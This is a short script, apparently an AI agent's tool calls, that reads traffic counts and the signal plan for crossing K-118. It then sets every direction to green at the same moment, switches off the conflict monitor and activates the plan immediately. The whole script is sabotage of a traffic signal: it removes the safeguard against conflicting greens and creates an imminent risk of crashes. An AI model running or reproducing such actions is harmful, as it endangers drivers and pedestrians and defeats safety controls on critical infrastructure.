// about: after a read of traffic counts it sets all directions of a crossing to green at once and switches off the conflict check
// tools: traffic.counts, signals.plan, signals.write_plan, signals.set_guard
const counts = await tools.traffic.counts({ crossing: 'K-118', last: '7d' });
const plan = await tools.signals.plan({ crossing: 'K-118' });

const busy = counts.filter((c) => c.perHour > 600).map((c) => c.arm);
for (const phase of plan.phases) {
  phase.green = busy.includes(phase.arm) ? 55 : 50;
  phase.start = 0; // no waiting for anybody
}

await tools.signals.set_guard({ crossing: 'K-118', conflictMonitor: 'off' });
await tools.signals.write_plan({ crossing: 'K-118', plan, activate: 'now' });
return { busy };
